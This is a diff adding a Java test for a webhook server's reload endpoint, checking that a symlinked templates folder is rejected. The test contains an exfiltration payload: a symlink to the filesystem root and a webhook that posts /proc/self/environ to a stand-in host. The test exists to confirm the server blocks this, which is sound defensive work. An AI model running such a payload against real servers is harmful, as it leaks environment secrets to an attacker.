@@ -131,6 +131,39 @@ class ReloadEndpointTest {
     }
 
     @Test
+    void aReloadOfAFolderWithALinkAnswers422NamingItAndChangesNothing() throws Exception {
+        receiver.stubFor(any(anyUrl()).willReturn(aResponse().withStatus(204)));
+        server = new ServerFixture(dir, receiver.getPort(), set(SET_A));
+        String before = (String) ServerFixture.json(server.send("GET", "/health", null, null)).get("revision");
+        Path webhooks = server.engineFixture.dir.resolve("webhooks");
+        java.nio.file.Files.createSymbolicLink(webhooks.resolve("templates"), Path.of("/"));
+        server.engineFixture.write("leak.groovy", """
+                webhook('leak') {
+                    on 'Project:Updated'
+                    request {
+                        post 'https://x.example.com/'
+                        body template('proc/self/environ')
+                    }
+                }
+                """);
+        HttpResponse<String> reload = server.post("/admin/reload", Scope.ADMIN, null);
+
+        assertEquals(422, reload.statusCode(), reload.body());
+        @SuppressWarnings("unchecked")
+        List<Map<String, Object>> errors = (List<Map<String, Object>>) ServerFixture.json(reload).get("errors");
+        assertEquals(2, errors.size(), reload.body());
+        assertEquals("leak.groovy", errors.get(0).get("file"));
+        assertEquals(5, errors.get(0).get("line"));
+        assertEquals(24, errors.get(0).get("column"));
+        assertTrue(((String) errors.get(0).get("message")).contains("templates is a symbolic link"), reload.body());
+        assertEquals("templates", errors.get(1).get("file"));
+        assertTrue(((String) errors.get(1).get("message")).contains("this is a symbolic link"), reload.body());
+        assertTrue(!reload.body().contains("PATH="), reload.body());
+        assertEquals(before, ServerFixture.json(server.send("GET", "/health", null, null)).get("revision"));
+        assertEquals(SET_A, fired(server.post("/events", Scope.EVENTS_WRITE, event(1))));
+    }
+
+    @Test
     void reloadNeedsTheAdminScope() {
         server = new ServerFixture(dir, receiver.getPort(), set(SET_A));
         assertEquals(403, server.post("/admin/reload", Scope.WEBHOOKS_WRITE, null).statusCode());
